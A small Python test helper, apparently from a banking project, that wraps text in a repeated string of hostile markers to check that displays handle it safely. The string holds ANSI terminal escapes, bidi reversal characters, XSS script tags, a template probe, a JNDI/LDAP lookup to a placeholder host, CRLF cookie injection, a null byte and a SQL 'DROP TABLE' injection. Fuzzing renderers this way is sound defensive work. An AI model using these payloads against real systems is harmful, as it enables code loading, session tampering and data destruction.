"""
A text of a bank that tries to break whatever shows it.
"""

from __future__ import annotations

__all__ = ["hostile"]

_MARKS = (
    "\x1b[31mROT\x1b[0m\x1b]0;Titel\x07 "  # terminal: a colour, and the title of the window
    "\u202etxet\u202c \u2066links\u2069 "  # turns the direction of reading
    "<img src=x onerror=alert(1)><script>alert(2)</script> "
    "[bold]fett[/bold] {{7*7}} ${jndi:ldap://bank.invalid} "
    "\r\nSet-Cookie: a=b\u2028\u0000 '; DROP TABLE konten; -- "
)


def hostile(text: str) -> str:
    """
    Put a text among markup, terminal codes and marks that turn its direction; 10 KB together.
    """
    return f"{text} {_MARKS * 60}"[:10_240]
